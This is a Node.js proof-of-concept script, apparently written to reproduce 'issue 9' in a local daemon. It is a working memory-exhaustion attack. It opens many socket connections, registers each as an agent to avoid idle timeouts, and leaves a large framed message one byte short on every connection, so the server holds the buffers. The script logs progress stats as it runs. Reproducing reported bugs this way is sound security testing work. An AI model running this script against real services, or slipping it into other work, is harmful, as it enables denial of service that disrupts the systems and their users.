// The memory-pinning attack of issue 9: as one unprivileged uid, open CONNECTIONS connections to the daemon,
// register each as an agent (so no idle timeout applies), then start a MESSAGE_BYTES message on each and never
// finish it (one byte short). Prints its progress as one JSON line every half second.
// Usage: node pin-memory.js SOCKET CONNECTIONS MESSAGE_BYTES
'use strict';
const net = require('net');

const [socketPath, connectionsText, sizeText] = process.argv.slice(2);
const connections = Number(connectionsText);
const size = Number(sizeText);
const partial = Buffer.alloc(size - 1, 0x20); // shared by every write: node queues the reference, not a copy
const stats = { opened: 0, registered: 0, started: 0, closed: 0, errors: 0 };

function frame(message) {
  const body = Buffer.from(JSON.stringify(message));
  return Buffer.concat([Buffer.from(`Content-Length: ${body.length}\r\n\r\n`), body]);
}

function attack() {
  const socket = net.createConnection(socketPath);
  let seen = '';
  let started = false;
  socket.on('connect', () => {
    stats.opened++;
    socket.write(frame({ jsonrpc: '2.0', id: 1, method: 'agent/register', params: { agentVersion: 'attack' } }));
  });
  socket.on('data', (data) => {
    if (started) {
      return;
    }

    seen += data.toString('latin1');
    if (seen.includes('"agentId"')) {
      started = true;
      stats.registered++;
      socket.write(`Content-Length: ${size}\r\n\r\n`);
      socket.write(partial, () => { stats.started++; });
    }
  });
  socket.on('error', () => { stats.errors++; });
  socket.on('close', () => { stats.closed++; });
}

let opened = 0;
const opener = setInterval(() => {
  for (let i = 0; i < 50 && opened < connections; i++, opened++) {
    attack();
  }

  if (opened >= connections) {
    clearInterval(opener);
  }
}, 20);

setInterval(() => console.log(JSON.stringify(stats)), 500);
